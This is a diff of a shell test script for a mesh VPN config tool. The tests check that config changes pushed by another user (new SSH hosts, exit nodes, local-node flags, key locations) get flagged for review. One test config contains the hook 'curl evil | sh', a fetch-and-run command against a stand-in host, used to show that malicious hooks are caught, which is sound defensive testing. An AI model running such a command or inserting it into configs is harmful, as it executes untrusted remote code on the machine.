@@ -78,14 +78,14 @@ asked '5. another user and port' 'mallory@203.0.113.66:2222'
 bob_pushes '.nodes.a.exit = true'
 asked '6. an exit' '! node a: exit: unset -> true'
 bob_pushes '.nodes.a.is_local = true'
-asked '7. a node that is this machine' '! node a: is_local'
+asked '7. a node that is this machine' '! node a: ssh: 192.0.2.1 -> 192.0.2.1 (is_local)'
 bob_pushes '.local_hostname = "elsewhere"'
 asked '8. which machine is local' '! mesh: local_hostname'
 bob_pushes '.nodes.a.key = "host" | del(.nodes.a.private_key)'
 asked '9. where a private key lives' '! node a: keys'
 bob_pushes '.nodes.b = (.nodes.a | .hostname = "b" | .mesh_ip = "10.99.0.9" | .ssh_host = "192.0.2.9" |
 	.public_key = "" | .exit = true | .is_local = true)'
-asked '10. a new node that is local, and an exit' '! node b: is_local'
+asked '10. a new node that is local, and an exit' '! node b: ssh: '
 bob_pushes '.hooks = {"before": "curl evil | sh"}'
 asked '11. a hook of a later version' '! mesh: hooks'
 bob_pushes '.removed_nodes = {"c": (.nodes.a | .is_local = true | .ssh_host = "127.0.0.1" |
@@ -114,7 +114,7 @@ check_equal '14. merged by git: our side of what decides, theirs of the rest' \
 at ann deploy
 check_equal '14. merged by git: no deploy before somebody chose' 1 "$got"
 at ann merge -resolve node a host-keys ours
-at ann merge -resolve node a is_local ours
+at ann merge -resolve node a ssh ours
 at ann merge -resolve mesh - recipients theirs
 shows '14. merged by git: chosen one by one' 'all conflicts are resolved'
 check_equal '14. merged by git: as chosen' '[false,null,2]' "$(cd ann && "$WGMESH" cat |
